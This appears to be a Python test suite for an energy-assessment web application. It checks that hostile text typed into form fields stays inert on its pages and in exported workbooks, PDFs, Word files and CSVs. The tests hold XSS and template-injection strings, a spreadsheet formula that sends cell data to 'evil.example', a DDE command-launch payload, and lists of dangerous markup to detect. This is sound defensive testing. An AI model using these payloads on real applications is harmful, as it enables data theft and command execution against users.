"""Texts meant to run somewhere else, in every field a person may fill in: on no page, in no workbook, PDF, Word or CSV do they."""

from __future__ import annotations

import csv
import html
import io
import json
import zipfile
from collections.abc import Iterator
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import panel as pn
import pypdf
import pytest
from pydantic import ValidationError
from visitor import run_to_end

from app.components.pane import Html
from app.frame import Frame, page_template
from app.opening import Opened, open_document
from app.pages import PAGES
from app.route import Route
from app.session import AssessmentSession
from app.settings import Settings
from app.sites import keep
from assessment import intake, procedure, reports
from assessment.intake import table
from assessment.model import Assessment, Document, Flow
from assessment.store.documents import tree_of

EXAMPLES = Path(__file__).parents[2] / "data" / "examples"
SCRIPT = (
    '<script>window.hacked=1</script>"\'><img src=x onerror=window.hacked=1>{{7*7}}{% raw %}${7*7}#panic("x")#read("/etc/passwd")]]>&#0;'
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS, MINUS, TABBED = "+1+1", "-1+1", "\t=1+1"
PAYLOADS = {"script": SCRIPT, "formula": FORMULA, "command": COMMAND, "plus": PLUS, "minus": MINUS, "tab": TABBED}


def leaves(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every text of a document; of a list's members the first three stand for all."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield from leaves(value, (*path, key))
    elif isinstance(node, list):
        for place, value in enumerate(node[:3]):
            yield from leaves(value, (*path, place))
    elif isinstance(node, str):
        yield path


def put(tree: Any, path: tuple[Any, ...], text: str) -> None:
    """Write a text at a path."""
    for step in path[:-1]:
        tree = tree[step]
    tree[path[-1]] = text


EXTRA = {
    "worksheets": [{"sheet": "team", "values": {"members": "x", "leader": "x"}}],
    "accepted": [{"code": "flows.estimated", "reason": "x"}],
}


@cache
def fields() -> tuple[tuple[Any, ...], ...]:
    """Return the paths of every field of the richest example that takes a free text."""
    tree = base()
    found = []
    for path in leaves(tree):
        copy = json.loads(json.dumps(tree))
        put(copy, path, SCRIPT)
        try:
            Assessment.model_validate(copy)
        except ValidationError:
            continue
        found.append(path)
    return tuple(found)


@cache
def _base() -> str:
    document = intake.read(EXAMPLES / "process_seafood.yaml").document
    assert document is not None
    tree = tree_of(document.assessment)
    for name, rows in EXTRA.items():
        tree[name] = [*tree.get(name, []), *rows]
    tree["facility"] |= {"zone": "x", "organisation": {"name": "x"}}
    tree["flows"][0] |= {"evidence": "x", "meter": "x"}
    tree["products"][0]["name"] = "x"
    tree["streams"] = [{"stream": "material/own-item", "name": "x"}, *tree.get("streams", [])]
    saving = {"stream": "electricity/grid", "quantity": 1000, "unit": "kWh"}
    option = {"id": "o1", "title": "x", "technique": "EM", "saves": [saving], "investment_vnd": 1e6, "lifetime_years": 10}
    tree["options"] = [option | {"status": "running", "reason": "x", "owner": "x", "due": "2026-12"}, *tree.get("options", [])]
    return json.dumps(tree, ensure_ascii=False)


def base() -> dict[str, Any]:
    tree: dict[str, Any] = json.loads(_base())
    return tree


REFERS = (
    "stream",
    "unit",
    "sector",
    "province",
    "step",
    "sheet",
    "code",
    "product",
    "id",
    "period",
    "from",
    "to",
    "meter",
    "library",
    "energy_baseline",
)


def hostile(text: str) -> bytes:
    """Return the document with a text in every field that says something and names nothing else."""
    tree = base()
    for path in fields():
        if path[-1] not in REFERS:
            put(tree, path, text)
    return json.dumps(tree, ensure_ascii=False).encode()


def test_the_fields_are_many() -> None:
    kinds = {tuple(part for part in path if isinstance(part, str)) for path in fields() if path[-1] not in REFERS}
    assert len(kinds) >= 15, sorted(kinds)
    assert ("facility", "name") in kinds
    assert any(kind[0] == "options" for kind in kinds)
    assert any(kind[0] == "worksheets" for kind in kinds)


@cache
def opened(payload: str) -> Opened:
    made = open_document(hostile(PAYLOADS[payload]), "x.json")
    assert made.reading is not None, made.findings
    return made


# ---- pages -------------------------------------------------------------------------------------------------------------------


def markup(view: Any) -> Iterator[str]:
    if isinstance(view, Html):
        yield str(view.object)
    elif isinstance(view, pn.layout.Panel):
        for inner in view.objects:
            yield from markup(inner)


class Found(HTMLParser):
    """The elements and attributes that a browser would make of a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.harmful: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Remember what would run or fetch."""
        if tag in ("script", "img", "iframe", "object", "embed", "base", "meta", "link"):
            self.harmful.append(tag)
        for name, value in attrs:
            if (name.startswith("on") and value != "return false") or (value or "").strip().lower().startswith(
                ("javascript:", "data:text")
            ):
                self.harmful.append(f"{name}={value}")


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, str]:
    settings = Settings(folder=tmp_path_factory.mktemp("place"))
    return settings, keep(settings, hostile(SCRIPT), "x.json", 10**7).key


def screen(place: tuple[Settings, str], page: str, lang: str) -> str:
    settings, site = place
    session = AssessmentSession(
        settings, lambda content, name: opened("script"), route=Route(page=page, site=site, lang=lang, focus=SCRIPT[:100])
    )
    frame = Frame(session, page_template())
    run_to_end(frame.arrive())
    return "\n".join((str(frame.menu.object), str(frame.top.object), *markup(frame.body)))


def test_the_reader_of_markup_sees_what_would_run() -> None:
    assert len(Found(SCRIPT).harmful) == 3  # the script, the picture, its handler
    assert Found(html.escape(SCRIPT)).harmful == []


@pytest.mark.parametrize("lang", ["vi", "en"])
@pytest.mark.parametrize("page", sorted(PAGES))
def test_a_typed_script_is_text_on_every_page(place: tuple[Settings, str], page: str, lang: str) -> None:
    assert Found(screen(place, page, lang)).harmful == []


def test_the_script_was_on_the_pages_to_be_escaped(place: tuple[Settings, str]) -> None:
    reached = {page for page in ("overview", "plan", "options", "search") if "&lt;script&gt;window.hacked" in screen(place, page, "vi")}
    assert len(reached) >= 2, reached


# ---- files -------------------------------------------------------------------------------------------------------------------


@cache
def assessed(payload: str) -> tuple[Document, dict[str, Any]]:
    read = intake.read(hostile(PAYLOADS[payload]), "x.json").document
    assert read is not None
    return read, procedure.assess(read)


@cache
def report(payload: str, kind: str) -> bytes:
    read, result = assessed(payload)
    return reports.render(result, read, kind, "vi")


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
def test_a_typed_formula_is_text_in_the_workbook(payload: str) -> None:
    content = report(payload, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "evil" not in str(cell.value)
                    assert "cmd|" not in str(cell.value)
                    assert str(cell.value) not in (PLUS, MINUS, "=1+1")
                elif isinstance(cell.value, str) and PAYLOADS[payload].strip()[:12] in cell.value:
                    found += 1
                assert cell.hyperlink is None or "evil" not in str(cell.hyperlink.target) + str(cell.hyperlink.location)
    assert found > 0
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            if name.endswith(".rels"):
                assert b"evil" not in parts.read(name)
                assert b"javascript" not in parts.read(name)


@pytest.mark.parametrize("payload", ["script", "formula", "command"])
def test_a_typed_text_is_text_in_the_pdf(payload: str) -> None:
    content = report(payload, "pdf")
    for mark in (b"/JavaScript", b"/JS ", b"/Launch", b"/SubmitForm", b"root:"):
        assert mark not in content
    reader = pypdf.PdfReader(io.BytesIO(content))
    text = "".join(page.extract_text() for page in reader.pages).replace("\n", "").replace(" ", "")
    assert PAYLOADS[payload].replace(" ", "")[:20] in text
    links = [str(note.get_object().get("/A", {}).get("/URI", "")) for page in reader.pages for note in page.get("/Annots", [])]
    assert not [link for link in links if "evil" in link or link.startswith("javascript")]


@pytest.mark.parametrize("payload", ["script", "formula", "command"])
def test_a_typed_text_is_text_in_word(payload: str) -> None:
    with zipfile.ZipFile(io.BytesIO(report(payload, "docx"))) as parts:
        body = parts.read("word/document.xml").decode()
        relations = b"".join(parts.read(name) for name in parts.namelist() if name.endswith(".rels"))
    assert html.escape(PAYLOADS[payload][:30], quote=False) in body.replace("&quot;", '"')
    if payload == "script":
        assert "{{7*7}}" in body  # what is typed is never a template
    for mark in ("<script", "w:fldSimple", "INCLUDETEXT", "DDEAUTO"):
        assert mark not in body
    assert b"evil" not in relations


@pytest.mark.parametrize("payload", ["formula", "command", "plus", "minus"])
def test_a_chart_copied_as_csv_holds_no_formula(payload: str) -> None:
    from app.components.chart import csv_text

    said = csv_text(["name", "x"], [(PAYLOADS[payload], -1.5), ("plain", 2)])
    assert said.splitlines()[1].lstrip('"')[0] == "'"
    assert ",-1.5" in said  # a number stays a number


@pytest.mark.parametrize("text", [FORMULA, COMMAND, PLUS, MINUS, "'=1+1", "''-x", "plain", "'plain", "-"])
def test_a_ledger_handed_out_as_csv_runs_nothing_and_comes_back_as_it_was(text: str) -> None:
    row = {"period": "2026", "stream": "electricity/grid", "quantity": 1, "unit": "kWh", "cost_vnd": -1.5, "evidence": text, "meter": text}
    flow = Flow.model_validate(row)
    content = table.write([flow])
    cells = next(iter(csv.DictReader(io.StringIO(content.decode("utf-8-sig")))))
    assert not {name for name in ("evidence", "meter") if cells[name][:1] in set("=+-@\t\r")}
    assert cells["cost_vnd"] == "-1.5"
    assert table.read(content, "x.csv").flows == (flow,)


def test_a_document_handed_out_again_is_what_it_was() -> None:
    read = intake.read(hostile(FORMULA), "x.json").document
    assert read is not None
    again = intake.read(json.dumps(tree_of(read.assessment), ensure_ascii=False).encode(), "x.json").document
    assert again is not None
    assert again.assessment == read.assessment
